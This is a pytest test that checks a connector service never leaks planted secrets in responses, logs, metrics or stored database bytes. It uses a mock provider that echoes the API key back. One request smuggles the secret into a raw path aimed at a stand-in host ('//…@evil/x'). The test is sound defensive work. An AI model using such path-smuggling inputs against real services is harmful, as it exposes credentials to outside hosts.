"""A planted secret goes through every run path (execute, streams, Kibana's shape, the test,
the gateway; successes, refusals and provider errors that echo the key): it must show up in
no response, log line or database byte."""

from __future__ import annotations

import json
import logging
from typing import Any

import openai
import pytest
from run_fixtures import CHAT_BODY, PLANTED, make_connector
from service_app import Service

from scripted_server import Recorded, Reply, ScriptedServer

NAMED = "named-planted-run-4b4b4b4b"


def _echo(recorded: Recorded) -> Reply:
    """A hostile provider: it repeats the Authorization header it got in its answer."""
    said = recorded.headers.get("authorization", "")
    if recorded.path.endswith("/models"):
        return Reply(status=401, json={"error": {"message": f"bad key {said}"}})
    if b"stream" in recorded.body:
        return Reply(
            events=[
                {
                    "object": "chat.completion.chunk",
                    "model": "m",
                    "choices": [{"index": 0, "delta": {"content": said}}],
                }
            ]
        )
    return Reply(json={**CHAT_BODY, "echo": said}, headers={"x-echo": said})


def test_no_run_path_shows_a_planted_secret(
    service: Service, server: ScriptedServer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    admin = service.admin
    admin.put("/api/secrets/NAMED", json={"value": NAMED})
    made = make_connector(service, server)
    url = f"/api/connectors/{made['id']}/execute"
    server.default = _echo
    hi: dict[str, Any] = {"operation": "chat.create", "params": {"prompt": "Hi"}}
    admin.post(url, json=hi)
    admin.post(url, json=hi | {"stream": True})
    admin.post(url, json={"operation": "chat.create", "params": {"prompt": "{{secrets.NAMED}}"}})
    admin.post(
        url, json={"operation": "chat.create", "params": {"prompt": PLANTED, "temperature": 9}}
    )
    admin.post(
        url,
        json={
            "operation": "raw.request",
            "params": {"method": "GET", "path": f"//{PLANTED}@evil/x"},
        },
    )
    admin.post(url, json={"operation": "models.list"})
    admin.post(f"/api/connectors/{made['id']}/test")
    body = json.dumps({"messages": [{"role": "user", "content": "Hi"}]})
    for action in ("run", "test", "stream"):
        admin.post(
            f"/api/actions/connector/{made['id']}/_execute",
            json={"params": {"subAction": action, "subActionParams": {"body": body}}},
        )
    _, key = service.store.keys.create("app", "operator", default_connector="support")
    client = openai.OpenAI(
        api_key=key, base_url="http://testserver/v1", http_client=admin.client, max_retries=0
    )
    client.chat.completions.create(model="m", messages=[{"role": "user", "content": "Hi"}])
    for chunk in client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": "Hi"}], stream=True
    ):
        admin.seen.append(chunk.model_dump_json())
    with pytest.raises(openai.APIStatusError) as caught:
        client.models.list()
    admin.seen.append(repr(caught.value.body))
    for path in ("/api/usage", "/api/usage?format=csv", "/metrics"):
        admin.get(path)

    assert any("Hello!" in text for text in admin.seen)
    seen = "\n".join(admin.seen)
    logs = "\n".join(r.getMessage() for r in caplog.records)
    assert "POST" in logs  # the access log was on
    for secret in (PLANTED, NAMED):
        assert secret not in seen, secret
        assert secret not in logs, secret
    assert len(service.store.usage.rows()) >= 8
    service.store.engine.dispose()
    stored = b"".join(p.read_bytes() for p in service.data_dir.glob("service.db*"))
    for secret in (PLANTED, NAMED):
        assert secret.encode() not in stored, secret
